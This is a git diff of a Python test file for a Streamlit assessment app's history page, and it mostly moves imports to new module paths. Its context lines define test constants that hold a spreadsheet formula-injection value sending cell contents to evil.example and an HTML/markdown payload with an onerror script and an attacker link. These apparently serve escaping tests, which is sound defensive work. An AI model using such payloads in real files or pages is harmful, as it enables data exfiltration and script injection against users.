@@ -10,16 +10,16 @@ import pytest
 from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
 from streamlit.testing.v1 import AppTest
 
-from assessment.access import Actor, Role
-from assessment.responses import Response
+from assessment.access.roles import Actor, Role
 from assessment.services.assessments import open_assessment
 from assessment.services.audit import events
 from assessment.services.organizations import create_organization
 from assessment.services.responses import set_response
 from assessment.storage.store import Store
+from assessment.workflow.response import Response
 from tests.conftest import open_in_url, unescaped
 from tests.people import ADMIN, admin
-from ui import history_page
+from ui.pages import history_page
 
 KESTREL = "Kestrel Outdoor Supply (demo)"
 HOSTILE_NOTE = '=HYPERLINK("http://evil.example/?leak="&A1, "click me")'
@@ -27,7 +27,7 @@ HOSTILE_NAME = "**Eve** <img src=x onerror=alert(1)> [me](http://evil.example) |
 
 
 def render() -> None:
-    from ui import history_page
+    from ui.pages import history_page
 
     history_page.render()
 
